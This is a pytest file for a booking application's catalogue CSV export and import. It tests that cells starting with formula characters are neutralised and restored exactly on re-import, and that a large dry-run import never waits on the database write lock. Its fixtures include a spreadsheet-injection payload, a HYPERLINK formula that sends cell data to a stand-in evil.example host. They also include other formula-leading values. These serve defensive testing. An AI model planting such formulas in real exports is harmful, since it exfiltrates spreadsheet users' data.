"""CSV safety (issue 9, item 17): the export never hands a spreadsheet a formula and still
round-trips; a big dry run checks the file without the lock that bookings need."""

import csv
import io
import threading

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, text
from sqlmodel import Session, select

from factories import TEST_DB, csrf_from, login
from vr_booking.models import Job, Video
from vr_booking.services.catalogue import edits
from vr_booking.services.catalogue.csv_columns import COLUMNS, protect_cell, unprotect_cell
from vr_booking.services.catalogue.csv_export import export_catalogue
from vr_booking.services.catalogue.csv_import import MAX_FILE_BYTES, import_catalogue

HOSTILE = {"keywords": '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
           "title": "@SUM(1+1)", "description": "+33 6 12 34 56 78\n-- suite", }
TRICKY = ["=1+1", "+1", "-1", "@x", "'quoted", "''", "'=kept", "plain", "a=b", ""]


@pytest.mark.parametrize("value", TRICKY)
def test_protection_is_undone_exactly(value: str):
    protected = protect_cell(value)
    assert not protected.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unprotect_cell(protected) == value


def test_a_hand_written_quote_before_ordinary_text_is_kept():
    assert unprotect_cell("'Soudeur") == "'Soudeur"


def _hostile_catalogue(db: Session) -> None:
    edits.create_sector(db, {"slug": "industrie", "name": "=Industrie"})
    edits.create_job(db, {"slug": "soudeur", "rome_code": "H2913", "sector": "industrie",
                          **HOSTILE})
    edits.create_video(db, {"slug": "atelier", "title": "-2+3", "duration_seconds": "300",
                            "languages": "fr", "min_age": "13", "is_seated": "true",
                            "description": "'quoted", "jobs": ["soudeur"]})
    db.commit()


def test_export_writes_no_formula_cell(db: Session):
    _hostile_catalogue(db)
    rows = list(csv.reader(io.StringIO(export_catalogue(db))))
    assert rows[0] == list(COLUMNS)
    cells = [cell for row in rows[1:] for cell in row]
    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert "'=HYPERLINK(" in rows[1][COLUMNS.index("job_keywords")]


def test_export_then_import_gives_back_every_value(db: Session):
    _hostile_catalogue(db)
    exported = export_catalogue(db)
    assert import_catalogue(db, exported, dry_run=True).changes == []
    job = db.exec(select(Job)).one()
    video = db.exec(select(Video)).one()
    before = (job.model_dump(), video.model_dump())
    for row in (job, video):
        row.title = "changed"
        db.add(row)
    db.commit()
    report = import_catalogue(db, exported)
    db.commit()
    assert report.ok
    assert {c.kind for c in report.changes} == {"job", "video"}
    db.expire_all()
    after = (db.exec(select(Job)).one().model_dump(), db.exec(select(Video)).one().model_dump())
    assert after == before
    assert after[0]["keywords"] == HOSTILE["keywords"]
    assert export_catalogue(db) == exported


# --- a big dry run and the write lock ---------------------------------------------------------

def big_catalogue(rows: int) -> str:
    lines = [",".join(COLUMNS)]
    lines += [f'industrie,Industrie,job-{i},Métier {i},H{2900 + i % 99:04d},métal soudure {i},'
              f'"Une description du métier {i}, avec une virgule.",video-{i},Vidéo {i},'
              f"Tournée en atelier.,420,fr,13,oui,CC BY,Démo" for i in range(rows)]
    return "\n".join(lines) + "\n"


def _hold_the_write_lock(engine: Engine):
    """What a booking in progress holds: SQLite's write lock, or on PostgreSQL a lock that
    refuses every write to the catalogue's tables while reads go on."""
    conn = engine.connect()
    if TEST_DB == "postgres":
        conn.execute(text("BEGIN"))
        conn.execute(text("LOCK TABLE sector, job, video, video_job IN SHARE MODE"))
    else:  # the engine begins every transaction with BEGIN IMMEDIATE: the write lock
        conn.execute(text("SELECT 1"))
    return conn


def test_a_big_dry_run_needs_no_write_lock(client: TestClient, engine: Engine, make_centre,
                                           make_staff):
    """While another request holds the write lock (a booking being made), a 2 MB dry run is
    parsed, checked and answered: it never waits for that lock, so bookings never wait
    for it either (before, it wrote in a rolled-back savepoint and held the lock 15-24 s)."""
    make_staff("root@example.org", role="admin")
    login(client, "root@example.org")
    big = big_catalogue(10000).encode()
    assert 0.9 * MAX_FILE_BYTES < len(big) <= MAX_FILE_BYTES
    token = csrf_from(client, "/staff/catalogue/import")
    answers = []

    def preview() -> None:
        answers.append(client.post("/staff/catalogue/import?lang=en",
                                   data={"csrftoken": token},
                                   files={"file": ("big.csv", big, "text/csv")}))

    writer = _hold_the_write_lock(engine)
    try:
        checking = threading.Thread(target=preview)
        checking.start()
        checking.join(timeout=25)
        finished_while_locked = not checking.is_alive()
    finally:
        writer.rollback()
        writer.close()
    checking.join()
    assert finished_while_locked
    assert answers[0].status_code == 200
    assert "10000 rows and no problem" in answers[0].text
    assert answers[0].text.count("<code>video-") == 2 * 10000  # each video, each link
